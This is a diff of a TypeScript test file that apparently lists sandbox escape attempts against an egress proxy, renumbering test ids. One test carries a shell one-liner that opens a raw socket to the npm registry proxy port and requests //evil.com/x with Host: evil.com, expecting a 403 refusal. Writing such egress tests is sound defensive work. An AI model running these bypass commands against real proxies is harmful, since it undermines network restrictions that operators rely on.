@@ -108,7 +108,7 @@ export function connections(place: AttackPlace): Attempt[] {
       always: /403[^]*egress refused/,
     })),
     ...spellings(servicePort).map((target): Attempt => ({
-      id: "A16",
+      id: /evil/.test(target) ? "A29" : "A31",
       area: "connect",
       what: `${target.replace("\0", "NUL")} through the proxy`,
       act: tunnel(target),
@@ -142,7 +142,7 @@ export function connections(place: AttackPlace): Attempt[] {
       always: /403[^]*end/,
     },
     {
-      id: "A16",
+      id: "A27",
       area: "connect",
       what: "another host through the registry's address",
       act: `port=$(node -p 'new URL(process.env.npm_config_registry).port'); for path in //evil.com/x http://evil.com/x; do node -e 'const s=require("net").connect(+process.argv[1],"127.0.0.1",()=>s.write("GET "+process.argv[2]+" HTTP/1.1\\r\\nHost: evil.com\\r\\n\\r\\n"));s.on("data",d=>{console.log(String(d).split("\\r\\n")[0]);process.exit()})' $port $path; done; echo end`,
